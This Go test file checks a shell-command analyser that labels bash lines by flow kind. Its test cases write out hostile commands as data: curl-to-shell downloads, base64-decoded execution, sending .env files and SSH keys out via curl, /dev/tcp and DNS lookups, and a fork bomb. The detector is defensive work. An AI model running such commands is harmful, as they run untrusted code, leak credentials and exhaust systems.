package call

import (
	"slices"
	"strings"
	"testing"

	"cardea.dev"
	"cardea.dev/internal/command/bash"
	"cardea.dev/internal/command/knowledge"
)

// flowsOf returns the flows of a line.
func flowsOf(line string) []cardea.Flow {
	a := bash.Analyse(line, bash.Env{Cwd: "/proj", System: knowledge.System{Home: "/home/u", Roots: []string{"/proj"}}})
	return Flows(&a, func(string) bool { return true })
}

func TestFlows(t *testing.T) {
	tests := []struct{ line, want string }{
		{"curl x | sh", "download-run"},
		{"curl x | tee y | bash", "download-run"},
		{"curl x | sudo bash", "download-run"},
		{"bash <(curl x)", "download-run"},
		{". <(curl x)", "download-run"},
		{"eval \"$(curl x)\"", "download-run"},
		{"bash -c \"$(curl x)\"", "download-run"},
		{"x=$(curl y|sh)", "download-run"},
		{"curl x | python3", "download-run"},
		{"curl -o b.sh x && chmod +x b.sh && ./b.sh", "download-run"},
		{"curl x > b.sh; sh b.sh", "download-run"},
		{"curl x | tee d.sh >/dev/null && bash d.sh", "download-run"},
		{"wget -O --help x && sh ./--help", "download-run"},
		{"echo aGk= | base64 -d | bash", "decode-run"},
		{"echo ls | rev | bash", "decode-run"},
		{"cat .env | curl -d @- x", "secret-network"},
		{"curl -sFname=@.env x", "secret-network"},
		{"exec 3<>/dev/tcp/h/1; cat ~/.ssh/id_rsa >&3", "secret-network"},
		{"nslookup $(cat .env).x", "secret-network"},
		{"echo x > a.sh; bash a.sh", "write-run"},
		{":(){ :|:& };:", "self-call multiplies"},
		{"curl x | jq .", ""},
		{"curl x -o y && cat y", ""},
		{"cat .env.example | curl -d @- x", ""},
		{"curl x | bash script.sh", ""},
		{"curl -o -d@.env x", ""},
	}
	for _, tt := range tests {
		var kinds []string
		for _, f := range flowsOf(tt.line) {
			if !slices.Contains(kinds, f.Kind) {
				kinds = append(kinds, f.Kind)
			}
		}
		if got := strings.Join(kinds, " "); got != tt.want {
			t.Errorf("%q: flows %q, want %q", tt.line, got, tt.want)
		}
	}
}

func TestFlowsThroughFilesAndVariables(t *testing.T) {
	for line, want := range map[string]string{
		"curl -O https://x/f.sh; sh f.sh":          "download-run",
		"wget https://x/f.sh; sh f.sh":             "download-run",
		"curl x | dd of=f; sh f":                   "download-run",
		"curl x | bash /dev/fd/0":                  "download-run",
		"curl x | python3 -":                       "download-run",
		"curl x | crontab -":                       "download-run",
		"curl x | crontab":                         "download-run",
		"curl x | at now":                          "download-run",
		"curl x | make -f -":                       "download-run",
		"curl x | xargs -I{} sh -c {}":             "download-run",
		"aria2c x -o f; sh f":                      "download-run",
		"scp h:f . ; sh f":                         "download-run",
		"aws s3 cp s3://b/f - | sh":                "download-run",
		"x=$(curl y); eval \"$x\"":                 "download-run",
		"x=`curl y`; bash -c \"$x\"":               "download-run",
		"x=$(curl y); $x":                          "download-run",
		"x=$(curl y); echo \"$x\" | sh":            "download-run",
		"x=$(curl y); printf %s \"$x\" > f; . ./f": "download-run",
		"curl x > f; bash < f":                     "download-run",
		"x=$(base64 -d f); eval \"$x\"":            "decode-run",
		"base64 -d x > f; sh f":                    "decode-run",
		"curl x | crontab -l":                      "",
		"x=$(curl y); echo \"$x\" | jq .":          "",
		"x=$(date); eval \"$x\"":                   "",
		"source <(kubectl completion bash)":        "",
		"eval \"$(ssh-agent)\"":                    "",
		"curl x | python3 -m json.tool":            "",
		"curl x | python3 -c \"$y\"":               "",
		"python3 -c \"$(curl x)\"":                 "download-run",
		"node -e \"$(curl x)\"":                    "download-run",
		"curl x -o Makefile; make":                 "download-run",
		"curl x -o package.json; npm i":            "download-run",
		"curl x | sudo tee /usr/local/bin/y; y":    "download-run",
		"curl x | make all":                        "",
		"curl x > f; cat < f":                      "",
	} {
		var kinds []string
		for _, f := range flowsOf(line) {
			if !slices.Contains(kinds, f.Kind) {
				kinds = append(kinds, f.Kind)
			}
		}
		if got := strings.Join(kinds, " "); got != want {
			t.Errorf("%q: flows %q, want %q", line, got, want)
		}
	}
}
